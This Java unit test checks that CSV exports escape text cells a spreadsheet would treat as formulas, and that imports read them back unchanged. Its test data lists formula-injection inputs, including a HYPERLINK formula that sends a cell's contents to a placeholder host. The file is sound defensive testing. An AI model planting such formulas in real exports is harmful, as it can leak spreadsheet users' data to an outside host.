package dev.lastroom.server.bulk;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.random.RandomGenerator;
import java.util.random.RandomGeneratorFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Texts that a spreadsheet would take for formulas, exported and imported. */
class FormulasTest {

    private static final FileColumns COLUMNS = new FileColumns(List.of("text", "number"), List.of("text"));

    private static final List<String> TEXTS = List.of(
            "=1+1",
            "-5",
            "+49 30 1234",
            "@SUM(A1)",
            "'=x",
            "''=x",
            "'",
            "'x",
            " =x",
            "' =x",
            "x=1",
            "a;=1",
            "a;'=1",
            "a,=1",
            "=\"x\",'=y",
            "-",
            "x;y;@z;",
            "=HYPERLINK(\"http://h/?\"&A1)",
            "2099-01-01",
            "12");

    @TempDir
    private Path folder;

    private String write(Format format, List<String> texts) throws IOException {
        StringWriter out = new StringWriter();
        RowWriter writer = new RowWriter(out, format, COLUMNS);
        for (String text : texts) {
            writer.write(Map.of("text", text, "number", -5L));
        }
        return out.toString();
    }

    private List<String> read(Format format, String file) throws Exception {
        List<String> texts = new ArrayList<>();
        RowReader.read(Files.writeString(folder.resolve("rows"), file), format, COLUMNS, row -> {
            texts.add(row.text("text", text -> text));
            assertThat(row.optionalInteger("number", number -> number)).isEqualTo(-5);
        });
        return texts;
    }

    @ParameterizedTest
    @EnumSource
    void everyTextIsReadBackAsItWas(Format format) throws Exception {
        assertThat(read(format, write(format, TEXTS))).isEqualTo(TEXTS);
        assertThat(write(format.raw(), TEXTS))
                .contains(format.isText() ? "=1+1," : "\"=1+1\"")
                .doesNotContain("'-5");
    }

    @Test
    void noCellBeginsAFormulaWhateverPartsTheCells() throws IOException {
        for (String text : TEXTS) {
            String line = write(Format.CSV, List.of(text)).lines().toList().getLast();
            assertThat(Formulas.quoted(text).split("[;\t]")).as(text).noneMatch(cell -> cell.matches("\\s*[=+@-].*"));
            assertThat(line).as("a number stays a number").endsWith(",-5");
        }
        // Negative control: unescaped, most of these are formulas.
        assertThat(TEXTS.stream().flatMap(text -> Arrays.stream(text.split("[;\t]"))))
                .filteredOn(cell -> cell.matches("\\s*[=+@-].*"))
                .hasSizeGreaterThan(8);
    }

    @Test
    void aTextThatNeedsNoApostropheGetsNone() {
        assertThat(List.of("x=1", "'x", "2099-01-01", "12", "a,=1", ""))
                .allSatisfy(text -> assertThat(Formulas.quoted(text)).isEqualTo(text))
                .allSatisfy(text -> assertThat(Formulas.plain(text)).isEqualTo(text));
    }

    /** A file made without apostrophes is read as it is, unless a text has an apostrophe before a formula. */
    @Test
    void anImportUnderstandsRawFilesToo() throws Exception {
        List<String> texts =
                TEXTS.stream().filter(text -> Formulas.plain(text).equals(text)).toList();
        assertThat(texts).contains("=1+1", "-5", "+49 30 1234");
        assertThat(read(Format.CSV, write(Format.RAW_CSV, texts))).isEqualTo(texts);
    }

    @ParameterizedTest
    @ValueSource(longs = 20_270_110)
    void randomTextsAreReadBackAsTheyWere(long seed) {
        RandomGenerator random = RandomGeneratorFactory.of("L64X128MixRandom").create(seed);
        String alphabet = "=+-@\t\r\n';, a1";
        for (int i = 0; i < 20_000; i++) {
            StringBuilder text = new StringBuilder();
            for (int length = random.nextInt(8); length > 0; length--) {
                text.append(alphabet.charAt(random.nextInt(alphabet.length())));
            }
            assertThat(Formulas.plain(Formulas.quoted(text.toString()))).isEqualTo(text.toString());
        }
    }
}
